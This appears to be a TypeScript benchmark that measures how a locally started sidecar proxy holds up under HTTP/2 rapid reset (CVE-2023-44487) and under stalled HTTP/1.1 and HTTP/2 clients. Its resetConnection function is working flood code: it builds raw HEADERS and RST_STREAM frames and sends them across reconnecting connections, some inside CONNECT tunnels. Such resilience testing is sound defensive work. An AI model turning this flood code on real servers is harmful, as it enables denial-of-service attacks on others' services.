/*
 * What hostile or careless clients cost one sidecar, started with the image's runtime settings:
 *   rapid-reset  HEADERS + RST_STREAM pairs on reconnecting connections (CVE-2023-44487)
 *   stalled-h2   HTTP/2 clients with a window of 0 asking for large bodies
 *   stalled-h1   HTTP/1.1 clients that never read their large bodies
 * directly or inside CONNECT tunnels, on the outbound or edge listener. It prints the sidecar's
 * RSS at idle, its peak during the attack and after it (the clients gone, after --settle), what
 * reached the upstream, the sidecar's own counts (shed, connections ended), and how an ordinary
 * client probing once every 50 ms fared meanwhile. A measurement, not a test:
 *   npm run h2-abuse -w @devstack/bench -- --attack rapid-reset --pairs 200000 --connections 8
 */
import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http';
import { connect as h2Connect, type ClientHttp2Session } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { memory, resetPeak } from './procstat.ts';
import { parseRuntime, describeRuntime } from './runtime.ts';
import { sidecarCli, sidecarMissing, startSidecar } from './sidecar.ts';

const HELP = `Usage: npm run h2-abuse -w @devstack/bench -- [options]
  --attack KIND        rapid-reset (default), stalled-h2 or stalled-h1
  --listener NAME      outbound (default) or edge
  --via connect        inside CONNECT tunnels (outbound only)
  --pairs N            rapid-reset: HEADERS + RST_STREAM pairs in all (default 200000)
  --after-settings     rapid-reset: send the pairs once the sidecar's SETTINGS arrived
  --bursts N           rapid-reset: the attack N times, --settle seconds apart (default 1)
  --connections N      connections at a time (default 8; stalled-h1: clients, default 2000)
  --streams N          stalled-h2: streams per connection (default 1000, the client's ask)
  --size BYTES         stalled-*: body size (default 10485760)
  --hold S             stalled-*: seconds the clients stay (default 5)
  --settle S           seconds after the attack before the last reading (default 5)
  --sidecar-runtime R  image (default) or none (see bench/README.md)
  --sidecar-args A     extra sidecar flags, one string (e.g. "--max-in-flight 512")`;

const { values } = parseArgs({
  options: {
    attack: { type: 'string', default: 'rapid-reset' },
    listener: { type: 'string', default: 'outbound' },
    via: { type: 'string' },
    pairs: { type: 'string', default: '200000' },
    connections: { type: 'string' },
    streams: { type: 'string', default: '1000' },
    size: { type: 'string', default: String(10 * 1024 * 1024) },
    hold: { type: 'string', default: '5' },
    settle: { type: 'string', default: '5' },
    'sidecar-runtime': { type: 'string', default: 'image' },
    'sidecar-args': { type: 'string', default: '' },
    'after-settings': { type: 'boolean' },
    bursts: { type: 'string', default: '1' },
    help: { type: 'boolean' },
  },
});
if (values.help) {
  console.log(HELP);
  process.exit(0);
}
const attack = values.attack!;
const listener = values.listener === 'edge' ? 'edge' : 'outbound';
const viaConnect = values.via === 'connect';
const authority = listener === 'edge' ? 'example.test' : 'orders';
const size = Number(values.size);
const connections = Number(values.connections ?? (attack === 'stalled-h1' ? 2000 : 8));
const missing = sidecarMissing();
if (missing) {
  console.error(missing);
  process.exit(1);
}

// The upstream, in this process: counts requests and connections, writes bodies as fast as the
// sidecar reads them (honouring write() and 'drain').
const BODY = Buffer.alloc(size, 0x61);
const up = { requests: 0, accepted: 0, open: 0, peakOpen: 0 };
const upstream = createServer((req: IncomingMessage, res: ServerResponse) => {
  up.requests++;
  req.resume();
  const big = attack !== 'rapid-reset' && req.url === '/big';
  const body = big ? BODY : Buffer.from('ok\n');
  res.writeHead(200, { 'content-length': String(body.length), 'x-upstream': 'orders' });
  let offset = 0;
  const pump = () => {
    while (offset < body.length) {
      const chunk = body.subarray(offset, offset + 64 * 1024);
      offset += chunk.length;
      if (!res.write(chunk)) return void res.once('drain', pump);
    }
    res.end();
  };
  res.once('close', () => res.off('drain', pump));
  pump();
});
upstream.on('connection', (socket: Socket) => {
  up.accepted++;
  up.peakOpen = Math.max(up.peakOpen, ++up.open);
  socket.once('close', () => up.open--);
});
await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
const upstreamPort = (upstream.address() as { port: number }).port;

const dir = mkdtempSync(join(tmpdir(), 'devstack-h2-abuse-'));
const registry = join(dir, 'registry.yaml');
writeFileSync(registry, `services:\n  orders:\n    base: http://127.0.0.1:${upstreamPort}\n`);
const runtime = parseRuntime(values['sidecar-runtime']!);
const extra = values['sidecar-args']!.split(/\s+/).filter((a) => a.length > 0);
const sidecar = await startSidecar({
  cli: sidecarCli(),
  registry,
  appPort: upstreamPort,
  runtime,
  extraArgs: ['--edge-port', '0', '--edge-host', '127.0.0.1', '--domain', 'example.test', '--entry', 'orders', ...extra],
});
const port = sidecar.ports[listener]!;
const adminPort = sidecar.ports['admin']!;
const mib = (kib: number) => `${(kib / 1024).toFixed(0)} MiB`;

function get(p: number, path: string, host = 'x'): Promise<{ status: number; body: string }> {
  return new Promise((resolve) => {
    const req = request({ host: '127.0.0.1', port: p, path, headers: { host }, agent: false, timeout: 5000 }, (res) => {
      let body = '';
      res.setEncoding('utf8').on('data', (c: string) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', () => resolve({ status: 0, body: '' }));
    req.on('timeout', () => req.destroy());
    req.end();
  });
}

/** A connection to the listener: direct, or a CONNECT tunnel once it is established. */
function open(): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect(viaConnect ? sidecar.ports['outbound']! : port, '127.0.0.1');
    socket.on('error', () => undefined);
    if (!viaConnect) return void socket.once('connect', () => resolve(socket)).once('error', reject);
    socket.once('connect', () => socket.write(`CONNECT orders:80 HTTP/1.1\r\nHost: orders:80\r\n\r\n`));
    let got = '';
    const onData = (c: Buffer) => {
      got += c.toString('latin1');
      if (!got.includes('\r\n\r\n')) return;
      socket.off('data', onData);
      if (!got.startsWith('HTTP/1.1 200')) return reject(new Error(`tunnel refused: ${got.split('\r\n')[0]}`));
      resolve(socket);
    };
    socket.on('data', onData);
    socket.once('close', () => reject(new Error('tunnel closed')));
  });
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(4, 0, 0, Buffer.alloc(0))]);
const block = Buffer.concat([Buffer.from([0x82, 0x84, 0x86, 0x01, authority.length]), Buffer.from(authority, 'latin1')]);
const cancel = Buffer.from([0, 0, 0, 8]);

/** One attacking connection: pairs in batches of 100 until its share is sent or the sidecar ends it. */
async function resetConnection(share: { left: number }, stats: { pairs: number; goaways: number; connections: number }): Promise<void> {
  const socket = await open().catch(() => undefined);
  if (socket === undefined) return;
  stats.connections++;
  let id = 1;
  let closed = false;
  let seen = Buffer.alloc(0);
  socket.on('data', (c: Buffer) => {
    seen = Buffer.concat([seen, c]);
    while (seen.length >= 9 && seen.length >= 9 + seen.readUIntBE(0, 3)) {
      if (seen[3] === 7) stats.goaways++;
      seen = seen.subarray(9 + seen.readUIntBE(0, 3));
    }
  });
  socket.once('close', () => (closed = true));
  socket.write(PREFACE);
  // --after-settings: the pairs only once the session is up, past the check of the first bytes.
  if (values['after-settings']) await new Promise((r) => socket.once('data', r).once('close', r));
  while (!closed && share.left > 0 && id < 2 ** 31 - 400) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 100 && share.left > 0; i++, share.left--, id += 2) {
      batch.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
      stats.pairs++;
    }
    if (!socket.write(Buffer.concat(batch))) await new Promise((r) => socket.once('drain', r).once('close', r));
    await new Promise((r) => setImmediate(r));
  }
  // Whatever was sent is read before the sidecar sees the end: every pair costs it what it costs.
  socket.end();
  if (!closed) await new Promise((r) => socket.once('close', r));
}

async function stalledH2(sessions: ClientHttp2Session[]): Promise<void> {
  for (let c = 0; c < connections; c++) {
    const socket = await open();
    const session = h2Connect(`http://${authority}`, { createConnection: () => socket, settings: { initialWindowSize: 0 } });
    session.on('error', () => undefined);
    sessions.push(session);
    for (let i = 0; i < Number(values.streams); i++) session.request({ ':authority': authority, ':path': '/big' }).on('error', () => undefined).pause();
  }
}

async function stalledH1(sockets: Socket[]): Promise<void> {
  for (let c = 0; c < connections; c++) {
    const socket = await open();
    socket.write(`GET /big HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
    socket.pause();
    sockets.push(socket);
  }
}

/** An ordinary client meanwhile: one request every 50 ms, each on its own connection. */
function probe(): { stop(): { ok: number; failed: number; maxMs: number } } {
  const result = { ok: 0, failed: 0, maxMs: 0 };
  let running = true;
  void (async () => {
    while (running) {
      const started = performance.now();
      const answer = await get(port, '/', authority);
      result.maxMs = Math.max(result.maxMs, performance.now() - started);
      if (answer.status === 200) result.ok++;
      else result.failed++;
      await new Promise((r) => setTimeout(r, 50));
    }
  })();
  return {
    stop() {
      running = false;
      return result;
    },
  };
}

async function metrics(): Promise<string[]> {
  const text = (await get(adminPort, '/metrics')).body;
  return text.split('\n').filter((l) => /^devstack_(overload_shed_total|h2_connections_ended_total|in_flight|client_timeouts_total|requests_total)/.test(l) && !/status="200"/.test(l));
}

await new Promise((r) => setTimeout(r, 1000));
const idle = memory(sidecar.pid);
const peakReset = resetPeak(sidecar.pid);
const prober = probe();
const started = performance.now();
const attacked: Record<string, number> = {};
const held: { sessions: ClientHttp2Session[]; sockets: Socket[] } = { sessions: [], sockets: [] };
// --bursts N: the rapid-reset attack N times over, --settle seconds apart; RSS after each.
const afterBursts: string[] = [];
if (attack === 'rapid-reset') {
  const stats = { pairs: 0, goaways: 0, connections: 0 };
  for (let burst = 0; burst < Number(values.bursts); burst++) {
    if (burst > 0) {
      await new Promise((r) => setTimeout(r, Number(values.settle) * 1000));
      afterBursts.push(mib(memory(sidecar.pid).rssKiB));
    }
    const share = { left: Number(values.pairs) };
    // Reconnecting attackers: `connections` at a time until every pair is sent.
    await Promise.all(Array.from({ length: connections }, async () => {
      while (share.left > 0) await resetConnection(share, stats);
    }));
  }
  Object.assign(attacked, stats);
} else {
  if (attack === 'stalled-h2') await stalledH2(held.sessions);
  else await stalledH1(held.sockets);
  await new Promise((r) => setTimeout(r, Number(values.hold) * 1000));
}
const during = memory(sidecar.pid);
const seconds = (performance.now() - started) / 1000;
held.sessions.forEach((s) => s.destroy());
held.sockets.forEach((s) => s.destroy());
const probed = prober.stop();
await new Promise((r) => setTimeout(r, Number(values.settle) * 1000));
const after = memory(sidecar.pid);
const alive = sidecar.child.exitCode === null && sidecar.child.signalCode === null;
// Work the sidecar was still doing when the clients left counts toward the peak too.
during.peakKiB = Math.max(during.peakKiB, after.peakKiB);
const counted = alive ? await metrics() : [];
const report = {
  attack,
  listener,
  via: viaConnect ? 'connect' : 'direct',
  runtime: describeRuntime(runtime),
  sidecarArgs: extra,
  seconds: Number(seconds.toFixed(1)),
  alive,
  rss: { idle: mib(idle.rssKiB), peak: mib(during.peakKiB), peakResetWorked: peakReset, endOfAttack: mib(during.rssKiB), afterSettle: mib(after.rssKiB), afterEarlierBursts: afterBursts },
  attacked,
  upstream: up,
  probe: { ...probed, maxMs: Math.round(probed.maxMs) },
  sidecar: counted,
  output: sidecar.output.slice(-12),
};
console.log(JSON.stringify(report, null, 2));
await sidecar.stop();
upstream.closeAllConnections();
upstream.close();
